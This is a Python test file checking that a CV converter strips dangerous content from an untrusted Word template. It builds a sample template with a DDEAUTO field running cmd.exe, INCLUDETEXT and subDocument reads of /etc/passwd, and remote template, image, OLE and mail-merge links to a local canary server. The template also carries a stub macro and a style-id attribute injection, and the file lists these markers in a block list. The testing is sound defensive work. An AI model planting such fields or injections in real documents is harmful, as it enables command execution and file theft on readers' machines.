"""A recruiter's Word template is hostile input too: only its look reaches the CV we write.

The template here is a real one (python-docx's, with a header and footer made by python-docx)
into which everything Word would fetch or run is planted: a remote attachedTemplate, DDEAUTO and
INCLUDEPICTURE fields (simple and complex), external image, oleObject and frame relationships, a
subDocument on file://, macros, custom XML, a glossary, embedded fonts, printer settings. The
written DOCX must carry none of it, keep the template's styles, page setup and header and footer
text, read back losslessly, and say in its report what was dropped; the canary server on
127.0.0.1 proves nothing was fetched.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
from docx.shared import Cm, Pt

import cvconvert
from tests.canary import canary
from tests.conftest import SAMPLES
from tests.helpers import run_bounded, zip_of

SAMPLE = SAMPLES / "wanru-zhao.json"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
HEADER_TEXT = "Placement by Example Staffing"
FOOTER_TEXT = "Confidential candidate profile"
CUSTOM_MARKER = "template-custom-xml-secret"
GLOSSARY_MARKER = "template-glossary-text"
MACRO_MARKER = b'Attribute VB_Name = "Evil"'

# Everything planted in the template that must not reach the CV (besides the canary URL).
FORBIDDEN = [
    "DDEAUTO",
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "vbaProject",
    "vbaData",
    "macroEnabled",
    "file://",
    "glossary",
    "attachedTemplate",
    "mailMerge",
    "linkStyles",
    "updateFields",
    "printerSettings",
    "embedRegular",
    "subDocument",
    "oleObject",
    "OLEObject",
    CUSTOM_MARKER,
    GLOSSARY_MARKER,
]


def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def _add_rels(xml: bytes, *rels: str) -> bytes:
    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")


def _fld_complex(code: str, shown: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def hostile_template(path: Path, url: str) -> Path:
    """Write a .dotm at ``path`` carrying every kind of thing a template must not pass on."""
    doc = docx.Document()
    section = doc.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.left_margin = section.right_margin = Cm(3.1)
    doc.styles["Heading 1"].font.size = Pt(17)
    section.header.paragraphs[0].text = HEADER_TEXT
    section.footer.paragraphs[0].text = FOOTER_TEXT
    doc.add_paragraph("template body text that must not appear")
    out = io.BytesIO()
    doc.save(out)
    with zipfile.ZipFile(out) as src:
        m = {n: src.read(n) for n in src.namelist()}
    header = next(n for n in m if re.fullmatch(r"word/header\d*\.xml", n))
    footer = next(n for n in m if re.fullmatch(r"word/footer\d*\.xml", n))

    # The header: text, then fields that run commands or fetch files, a picture and an OLE object.
    hostile_runs = (
        "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\" '>"
        "<w:r><w:t>dde shown</w:t></w:r></w:fldSimple>"
        + _fld_complex(f'INCLUDEPICTURE "{url}/field.png" \\d', "picture shown")
        + f"<w:fldSimple w:instr=' INCLUDEPICTURE \"{url}/simple.png\" '>"
        + "<w:r><w:t>simple shown</w:t></w:r></w:fldSimple>"
        # a field nested in another field's code: both go, with the code's text
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        + _fld_complex('INCLUDETEXT "file:///etc/passwd"', "nested shown")
        + '<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + '<w:r><w:t>if shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        + '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData>'
        '<a:blip r:embed="rIdEvilImage" r:link="rIdEvilImage"/></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r>"
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
        'ProgID="Word.Document.12" r:id="rIdEvilOle"/></w:object></w:r>'
        '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t> linked shown</w:t></w:r></w:hyperlink>'
    )
    head = m[header].decode()
    head = head.replace("<w:hdr ", f'<w:hdr xmlns:r="{R}" ', 1) if 'xmlns:r="' not in head else head
    m[header] = head.replace("</w:p>", hostile_runs + "</w:p>", 1).encode()
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    m[header_rels] = _add_rels(
        m.get(header_rels, f'<Relationships xmlns="{PKG_REL}"></Relationships>'.encode()),
        _rel("rIdEvilImage", REL + "image", f"{url}/logo.png", external=True),
        _rel("rIdEvilOle", REL + "oleObject", f"{url}/object.docx", external=True),
        _rel("rIdEvilLink", REL + "hyperlink", f"{url}/link", external=True),
    )
    # The footer: page numbers, which stay (one simple field, one complex).
    foot = m[footer].decode()
    m[footer] = foot.replace(
        "</w:p>",
        '<w:r><w:t xml:space="preserve"> page </w:t></w:r>'
        + _fld_complex("PAGE", "1")
        + '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
        + '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>',
        1,
    ).encode()

    # settings: a remote template, a mail merge from a remote data source, fields updated on open.
    settings = m["word/settings.xml"].decode()
    settings = settings.replace(
        "<w:defaultTabStop ",
        '<w:attachedTemplate r:id="rIdEvilTemplate"/><w:linkStyles/>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=x"/><w:query w:val="SELECT * FROM x"/>'
        '<w:dataSource r:id="rIdEvilData"/></w:mailMerge><w:updateFields w:val="true"/>'
        "<w:defaultTabStop ",
    )
    m["word/settings.xml"] = settings.encode()
    m["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{PKG_REL}">'
        + _rel("rIdEvilTemplate", REL + "attachedTemplate", f"{url}/t.dotx", external=True)
        + _rel("rIdEvilData", REL + "mailMergeSource", f"{url}/data.csv", external=True)
        + "</Relationships>"
    ).encode()

    # document.xml: printer settings in the section; relationships to everything else.
    m["word/document.xml"] = m["word/document.xml"].replace(
        b"<w:pgSz ", b'<w:printerSettings r:id="rIdEvilPrinter"/><w:pgSz ', 1
    )
    m["word/printerSettings/printerSettings1.bin"] = b"\0" * 64
    m["word/_rels/document.xml.rels"] = _add_rels(
        m["word/_rels/document.xml.rels"],
        _rel("rIdEvilPrinter", REL + "printerSettings", "printerSettings/printerSettings1.bin"),
        _rel("rIdEvilFrame", REL + "frame", f"{url}/frame.html", external=True),
        _rel("rIdEvilSub", REL + "subDocument", "file:///etc/passwd", external=True),
        _rel("rIdEvilPic", REL + "image", f"{url}/body.png", external=True),
        _rel("rIdEvilVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        _rel("rIdEvilGlossary", REL + "glossaryDocument", "glossary/document.xml"),
        _rel("rIdEvilPeople", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
        _rel("rIdEvilComments", REL + "comments", "comments.xml"),
    )
    m["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MACRO_MARKER
    m["word/vbaData.xml"] = b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    m["word/_rels/vbaProject.bin.rels"] = (
        f'<Relationships xmlns="{PKG_REL}">'
        + _rel("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")
        + "</Relationships>"
    ).encode()
    m["word/glossary/document.xml"] = (
        f'<w:glossaryDocument xmlns:w="{W}"><w:docParts><w:docPart><w:docPartBody><w:p><w:r>'
        f"<w:t>{GLOSSARY_MARKER}</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
    ).encode()
    m["word/people.xml"] = b'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>'
    m["word/comments.xml"] = f'<w:comments xmlns:w="{W}"/>'.encode()
    m["customXml/item1.xml"] = f'<x:data xmlns:x="urn:example:crm">{CUSTOM_MARKER} {url}/crm</x:data>'.encode()
    # An embedded font, referenced from the font table.
    m["word/fontTable.xml"] = m["word/fontTable.xml"].replace(
        b"</w:font>",
        b'<w:embedRegular xmlns:r="'
        + R.encode()
        + b'" r:id="rIdEvilFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>'
        b"</w:font>",
        1,
    )
    m["word/fonts/font1.odttf"] = b"\0" * 64
    m["word/_rels/fontTable.xml.rels"] = (
        f'<Relationships xmlns="{PKG_REL}">'
        + _rel("rIdEvilFont", REL + "font", "fonts/font1.odttf")
        + "</Relationships>"
    ).encode()

    types = m["[Content_Types].xml"].decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    types = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
        '<Override PartName="/word/glossary/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/>'
        '<Override PartName="/word/people.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"/>'
        '<Override PartName="/word/comments.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
        "</Types>",
    )
    m["[Content_Types].xml"] = types.encode()
    path.write_bytes(zip_of(m))
    return path


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def assert_clean(data: bytes, url: str) -> None:
    """Nothing planted in the template is in the package; only our links are external."""
    members = _members(data)
    port = url.rsplit(":", 1)[1].encode()
    for name, body in members.items():
        for word in [*FORBIDDEN, "vba", "glossary", "people.xml", "comments.xml", "webSettings"]:
            assert word.lower() not in name.lower(), name
            assert word.encode() not in body, (name, word)
        assert url.encode() not in body and b"127.0.0.1" not in body and port + b"/" not in body, name
        assert MACRO_MARKER not in body, name
        if name == "word/_rels/document.xml.rels":
            for rel in re.findall(rb"<Relationship [^>]*>", body):
                if b"External" in rel:
                    assert REL.encode() + b'hyperlink"' in rel, rel  # our own résumé links only
                    assert re.search(rb'Target="(https?://|mailto:)', rel), rel
        else:
            assert b"External" not in body, name
        if name.startswith("customXml/"):
            # only our data part, its properties and the relationship between them
            assert b"urn:cvconvert:docx:1" in body or name == "customXml/_rels/item1.xml.rels", name
    assert sorted(n for n in members if n.startswith("customXml/")) == [
        "customXml/_rels/item1.xml.rels",
        "customXml/item1.xml",
        "customXml/itemProps1.xml",
    ]
    types = members["[Content_Types].xml"].decode()
    assert "document.main+xml" in types and "macroEnabled" not in types and 'Extension="bin"' not in types
    listed = set(re.findall(r'PartName="/([^"]+)"', types))
    assert listed <= set(members), listed - set(members)


def _messages(report: cvconvert.Report) -> str:
    return "\n".join(n.message for n in report if n.path == "" and n.message.startswith("template "))


def test_hostile_template_gives_only_its_look(tmp_path: Path) -> None:
    resume = cvconvert.read(SAMPLE)
    with canary() as (url, hits):
        template = hostile_template(tmp_path / "t.dotm", url)
        data, report = cvconvert.dumps(resume, "docx", template=str(template))
        assert_clean(data, url)

        doc = docx.Document(io.BytesIO(data))
        assert doc.styles["Heading 1"].font.size == Pt(17)
        section = doc.sections[0]
        with zipfile.ZipFile(template) as src:
            setup = src.read("word/document.xml").decode()
        size = re.search(r'<w:pgSz w:w="(\d+)" w:h="(\d+)"', setup)
        assert size and (section.page_width.twips, section.page_height.twips) == (int(size[1]), int(size[2]))
        assert section.page_height.twips == 16838  # A4, not python-docx's Letter
        assert f'w:left="{section.left_margin.twips}"' in setup and abs(section.left_margin - Cm(3.1)) < Cm(0.01)
        header = "\n".join(p.text for p in section.header.paragraphs)
        footer = "\n".join(p.text for p in section.footer.paragraphs)
        assert HEADER_TEXT in header and "template body text" not in "\n".join(p.text for p in doc.paragraphs)
        # Fields other than PAGE and NUMPAGES keep the text they showed, as plain text.
        assert "dde shown" in header and "picture shown" in header and "if shown" in header
        assert "nested shown" not in header  # it was part of the IF field's code, never shown
        assert FOOTER_TEXT in footer and " page 1 of " in footer  # python-docx skips fldSimple text
        members = _members(data)
        footer_xml = b"".join(body for name, body in members.items() if name.startswith("word/footer"))
        assert b"> PAGE </w:instrText>" in footer_xml and b'w:instr=" NUMPAGES "' in footer_xml

        assert cvconvert.read(data, "docx") == resume

        notes = _messages(report)
        for what in ("macros", "external references", "fields", "settings", "custom XML", "glossary"):
            assert f"template t.dotm: dropped {what}" in notes, (what, notes)
        for detail in (
            "attachedTemplate",
            "oleObject",
            "frame",
            "subDocument",
            "DDEAUTO",
            "INCLUDEPICTURE",
            "mailMerge",
        ):
            assert detail in notes, (detail, notes)
        assert all(n.kind == "warning" for n in report if n.message.startswith("template "))
        # The prepared template is cached; its notes come with every later call.
        again, later = cvconvert.dumps(resume, "docx", template=str(template))
        assert again == data and _messages(later) == notes
    assert hits == []


def test_hostile_template_through_the_cli(tmp_path: Path) -> None:
    with canary() as (url, hits):
        template = hostile_template(tmp_path / "t.dotm", url)
        out = tmp_path / "cv.docx"
        code, err, _, seconds = run_bounded(str(SAMPLE), str(out), "--template", str(template))
        assert code == 0, err[-2000:]
        data = out.read_bytes()
        assert_clean(data, url)
        assert "template t.dotm: dropped macros" in err and "template t.dotm: dropped external references" in err
        assert cvconvert.read(data, "docx") == cvconvert.read(SAMPLE)
        assert seconds < 60
    assert hits == []


def test_plain_template_loses_only_parts_that_are_not_its_look(tmp_path: Path) -> None:
    path = tmp_path / "plain.docx"
    docx.Document().save(path)
    _, report = cvconvert.dumps(cvconvert.read(SAMPLE), "docx", template=str(path))
    notes = _messages(report)
    assert "dropped macros" not in notes and "dropped external" not in notes and "dropped fields" not in notes
    assert "dropped settings" not in notes  # python-docx's settings are layout and editing state only


def _without_normal(path: Path) -> Path:
    docx.Document().save(path)
    with zipfile.ZipFile(path) as src:
        m = {n: src.read(n) for n in src.namelist()}
    styles = m["word/styles.xml"].decode()
    styles, count = re.subn(r'<w:style [^>]*w:styleId="Normal".*?</w:style>', "", styles, flags=re.S)
    assert count == 1
    m["word/styles.xml"] = styles.encode()
    path.write_bytes(zip_of(m))
    return path


def test_template_without_normal_style_gets_one(tmp_path: Path) -> None:
    template = _without_normal(tmp_path / "nonormal.dotx")
    resume = cvconvert.read(SAMPLE)
    data, _ = cvconvert.dumps(resume, "docx", template=str(template))
    doc = docx.Document(io.BytesIO(data))
    assert doc.styles["Normal"].type == docx.enum.style.WD_STYLE_TYPE.PARAGRAPH
    assert any(p.style.name == "Normal" for p in doc.paragraphs)
    styles = _members(data)["word/styles.xml"].decode()
    assert len(re.findall(r'w:type="paragraph" w:default="1"', styles)) == 1
    assert cvconvert.read(data, "docx") == resume
    code, err, _, _ = run_bounded(str(SAMPLE), str(tmp_path / "cv.docx"), "--template", str(template))
    assert code == 0, err[-2000:]


def test_template_that_is_not_a_regular_file_is_refused(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "t.dotx"
    os.mkfifo(fifo)  # reading it would wait for a writer forever
    code, err, _, _ = run_bounded(str(SAMPLE), str(tmp_path / "cv.docx"), "--template", str(fifo), timeout=20)
    # A bad template is a usage mistake (OptionError, exit 2), like a missing one.
    assert code == 2 and "Traceback" not in err, err[-2000:]
    assert "template " in err and "t.dotx: not a regular file" in err, err


def test_odd_values_in_a_template_are_not_trusted(tmp_path: Path) -> None:
    """A style id that would end its attribute, and page and list numbers that are not numbers."""
    path = tmp_path / "odd.docx"
    docx.Document().save(path)
    with zipfile.ZipFile(path) as src:
        m = {n: src.read(n) for n in src.namelist()}
    injected = 'x"/><w:fldSimple w:instr="DDEAUTO calc"/><w:pStyle w:val="x'
    styles = m["word/styles.xml"].decode()
    styles = styles.replace(
        'w:styleId="Heading1"',
        'w:styleId="{}"'.format(injected.replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")),
    )
    styles = re.sub(r'<w:style [^>]*w:styleId="ListBullet".*?</w:style>', "", styles, flags=re.S)
    m["word/styles.xml"] = styles.encode()
    m["word/document.xml"] = re.sub(
        rb'<w:pgMar w:top="\d+" w:right="\d+"', b'<w:pgMar w:top="1440" w:right="wide"', m["word/document.xml"]
    )
    m["word/numbering.xml"] = m["word/numbering.xml"].replace(b'w:abstractNumId="0"', b'w:abstractNumId="zero"', 1)
    path.write_bytes(zip_of(m))
    resume = cvconvert.read(SAMPLE)
    data, _ = cvconvert.dumps(resume, "docx", template=str(path))
    body = _members(data)["word/document.xml"]
    assert b"DDEAUTO" not in body and b"fldSimple" not in body
    doc = docx.Document(io.BytesIO(data))
    assert any(p.style.style_id == "Heading1" for p in doc.paragraphs)  # ours, added under a clean id
    assert any(p.style.name == "List Bullet" for p in doc.paragraphs)
    assert cvconvert.read(data, "docx") == resume
